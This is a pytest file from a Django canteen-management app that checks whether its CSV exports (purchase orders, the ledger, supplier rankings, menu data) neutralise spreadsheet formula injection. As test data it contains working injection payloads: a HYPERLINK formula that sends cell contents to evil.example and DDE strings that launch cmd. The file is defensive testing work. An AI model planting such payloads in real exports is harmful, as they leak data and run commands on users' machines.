"""Formula injection (issue 12): every CSV export writes formula-like text behind an
apostrophe, numbers as numbers; and no module writes CSV without ``cantine.csv_export``."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from cantine.csv_export import looks_like_formula, safe_cell, writer
from menus import scdl
from nutrition.models import Dish
from orders.models import AllocationRun, PurchaseOrder
from orders.needs import compute_needs
from orders.services import accept_allocation, execute_allocation_run
from purchases import exporter
from purchases.models import Purchase
from tests.orders.test_support import MONDAY, offer, serve
from tests.purchases.factories import PurchaseFactory

pytest_plugins = ["tests.orders.test_support"]

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
CMD = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", [HYPERLINK, CMD, "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "+"])
def test_formula_like_text_is_written_behind_an_apostrophe(text):
    assert looks_like_formula(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-3,5", "-3.5", "+12.40", "-1 234,5", "-1e3", "12", -3, Decimal("-3.5"), -0.5]
)
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["Carottes -3,5 kg", "Pommes = poires", "", "Bœuf"])
def test_ordinary_text_is_untouched(text):
    assert safe_cell(text) == text


def test_the_writer_defuses_every_cell_of_a_row():
    out = io.StringIO()
    writer(out, delimiter=";", lineterminator="\n").writerow([HYPERLINK, "-3,5", None, 7])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        "'" + HYPERLINK,
        "-3,5",
        "",
        "7",
    ]


def test_no_module_writes_csv_without_the_safe_writer():
    direct = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("cantine", "menus", "nutrition", "orders", "producers", "purchases", "demo")
        for path in (ROOT / app).rglob("*.py")
        if path.name != "csv_export.py" and direct.search(path.read_text("utf-8"))
    ]
    assert offenders == []


def test_the_purchase_order_csv_defuses_a_producer_s_label(client, world, planned, foods):
    world.producer.delivery_weekdays = [0, 4]
    world.producer.save()
    carrots = offer(world.producer, foods["carrot"], price="1.20", pack="5", labels=["BIO"])
    carrots.product_label = HYPERLINK
    carrots.save()
    compute_needs(kitchen=planned, start=MONDAY, end=date(2027, 1, 10))
    run = AllocationRun.objects.create(canteen=planned, start=MONDAY, end=date(2027, 1, 10))
    execute_allocation_run(run_id=run.pk)
    run.refresh_from_db()
    accept_allocation(run=run)
    order = PurchaseOrder.objects.get(producer=world.producer)

    client.force_login(world.users["manager"])
    text = client.get(reverse("orders_po_csv", kwargs={"po_pk": order.pk})).content.decode()
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][5] == "'" + HYPERLINK
    assert rows[1][11] == "1,2"  # the unit price, a number, as is


@pytest.fixture
def tainted(world):
    PurchaseFactory(
        canteen=world.kitchen,
        date=date(2025, 3, 2),
        description=CMD,
        supplier=HYPERLINK,
        price_ht=Decimal("12.50"),
    )
    return world


def test_the_ledger_export_defuses_descriptions_and_suppliers(client, tainted):
    client.force_login(tainted.users["manager"])
    response = client.get(reverse("purchase_export"), {"year": 2025})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1:5] == ["'" + CMD, "'" + HYPERLINK, "2025-03-02", "12.50"]


def test_the_ma_cantine_file_defuses_them_too(tainted):
    text = exporter.to_csv_bytes(Purchase.objects.all()).decode()
    assert "'" + CMD in text and "\n" + CMD not in text


def test_the_top_suppliers_csv_defuses_a_supplier_name(client, tainted):
    client.force_login(tainted.users["manager"])
    response = client.get(
        reverse("purchase_shares"),
        {"canteen": tainted.kitchen.pk, "year": 2025, "table": "supplier", "format": "csv"},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[1][1] in {"12,5", "12,50"}


def test_the_scdl_export_defuses_a_dish_name(world):
    dish = Dish.objects.create(
        kitchen=world.kitchen, name="@SUM(1+1)*cmd|' /C calc'!A0", component="main"
    )
    serve(world.kitchen, date(2026, 3, 2), main=dish)
    text = scdl.export_menus(world.kitchen, date(2026, 3, 2), date(2026, 3, 2))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["menuPlatNom"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
